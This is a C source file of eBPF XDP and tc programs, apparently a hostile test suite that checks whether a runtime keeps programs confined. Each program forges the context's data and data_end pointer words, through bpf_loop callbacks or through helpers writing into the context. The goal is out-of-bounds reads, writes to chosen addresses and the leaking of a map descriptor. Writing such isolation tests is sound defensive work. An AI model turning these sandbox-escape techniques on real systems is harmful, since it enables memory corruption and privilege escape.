/* Forged context pointer words. The packet helpers read data and data_end
 * from the context's hidden 64-bit words and trust them. Load-time
 * rewriting refuses stores to those words through a register it knows is
 * the context, but not through a context pointer laundered through a
 * bpf_loop callback's argument (the verifier refuses the context as the
 * callback's argument, and its permissive analysis, which finds the
 * context accesses of unverified programs, does not follow the refused
 * call into the callback).
 * (A stack slot at a computed address: ctx_spill.c.) */
#include "hostile.h"

struct {
	__uint(type, BPF_MAP_TYPE_ARRAY);
	__uint(max_entries, 1);
	__type(key, __u32);
	__type(value, __u64);
} victim SEC(".maps");

/* Moves data_end 64 KiB further: the callback's c is the context. */
static long widen_end(__u64 i, void *c)
{
	*(volatile __u64 *)(c + XDP_END_WORD) += 0x10000;
	return 1;
}

/* A 64-byte packet, then a read of 64 bytes at offset 3840: the context
 * itself, past the 4096-byte frame. */
SEC("xdp")
int loop_ctx_write(struct xdp_md *ctx)
{
	__u8 buf[64];
	bpf_loop(1, widen_end, ctx, 0);
	if (bpf_xdp_load_bytes(ctx, 3840, buf, sizeof(buf)) == 0)
		return ESCAPED;
	return XDP_PASS;
}

static long point_at_page_one(__u64 i, void *c)
{
	*(volatile __u64 *)(c + XDP_DATA_WORD) = 0x1000;
	*(volatile __u64 *)(c + XDP_END_WORD) = 0x2000;
	return 1;
}

/* Forged words pointing at unmapped memory, then bpf_xdp_store_bytes:
 * a write to an address of the program's choosing. */
SEC("xdp")
int forge_store_anywhere(struct xdp_md *ctx)
{
	__u64 v = 0x4141414141414141;
	bpf_loop(1, point_at_page_one, ctx, 0);
	bpf_xdp_store_bytes(ctx, 0, &v, sizeof(v));
	return ESCAPED;
}

static long end_at_top(__u64 i, void *c)
{
	*(volatile __u64 *)(c + XDP_END_WORD) = 0x7fffffffffff0000;
	return 1;
}

/* data_end forged to the top of the address space, then
 * bpf_xdp_adjust_head(ctx, 0) copies the forged bounds into the packet
 * region: ordinary checked loads then read anything above the packet, here
 * the map's descriptor. */
SEC("xdp")
int forge_widen_region(struct xdp_md *ctx)
{
	__u64 data = ctx->data;
	bpf_loop(1, end_at_top, ctx, 0);
	if (bpf_xdp_adjust_head(ctx, 0))
		return XDP_PASS;
	if ((__u64)&victim < data)
		return NOT_REACHED; /* the descriptor is below the packet: cannot tell */
	if (*(volatile __u32 *)&victim == BPF_MAP_TYPE_ARRAY)
		return ESCAPED;
	return NOT_REACHED;
}

static long skb_point_at_victim(__u64 i, void *c)
{
	*(volatile __u64 *)(c + SKB_DATA_WORD) = (__u64)&victim;
	*(volatile __u64 *)(c + SKB_END_WORD) = (__u64)&victim + 64;
	return 1;
}

/* The tc flavour: bpf_skb_load_bytes reads the descriptor. */
SEC("tc")
int skb_loop_ctx_write(struct __sk_buff *skb)
{
	__u32 desc[6];
	bpf_loop(1, skb_point_at_victim, skb, 0);
	if (bpf_skb_load_bytes(skb, 0, desc, sizeof(desc)) != 0)
		return TC_ACT_OK;
	if (desc[0] == BPF_MAP_TYPE_ARRAY && desc[1] == 4)
		return ESCAPED;
	return NOT_REACHED;
}

static long skb_swap_bounds(__u64 i, void *c)
{
	__u64 d = *(volatile __u64 *)(c + SKB_DATA_WORD);
	*(volatile __u64 *)(c + SKB_DATA_WORD) = d + 0x100000;
	return 1;
}

/* data forged past data_end: the skb helpers that resize the packet
 * compute lengths as end - data. */
SEC("tc")
int skb_forge_change_tail(struct __sk_buff *skb)
{
	bpf_loop(1, skb_swap_bounds, skb, 0);
	bpf_skb_change_tail(skb, 100, 0);
	return ESCAPED;
}

/* Nothing but the forged data_end: the run returns normally and the
 * runtime copies the packet out between the context's words. */
SEC("xdp")
int forge_data_out(struct xdp_md *ctx)
{
	bpf_loop(1, widen_end, ctx, 0);
	return ESCAPED;
}

/* No laundering at all: a helper that writes memory is pointed at the
 * context's data_end word. Load-time rewriting checks the program's own
 * loads and stores, not the buffers it hands to helpers. */
SEC("xdp")
int helper_writes_ctx_word(struct xdp_md *ctx)
{
	__u8 buf[64];
	__u64 end = ctx->data_end;
	__u64 wide = end + 0x10000;
	bpf_probe_read_kernel((void *)ctx + XDP_END_WORD, sizeof(wide), &wide);
	if (bpf_xdp_load_bytes(ctx, 3840, buf, sizeof(buf)) == 0)
		return ESCAPED;
	return XDP_PASS;
}

/* The same with the packet's own bytes: bpf_skb_load_bytes copies the
 * first 8 bytes of the packet, which the sender chose, over the data
 * word. */
SEC("tc")
int skb_load_bytes_into_ctx(struct __sk_buff *skb)
{
	__u32 desc[6];
	bpf_skb_load_bytes(skb, 0, (void *)skb + SKB_DATA_WORD, 8);
	if (bpf_skb_load_bytes(skb, 0, desc, sizeof(desc)) != 0)
		return TC_ACT_OK;
	return ESCAPED;
}
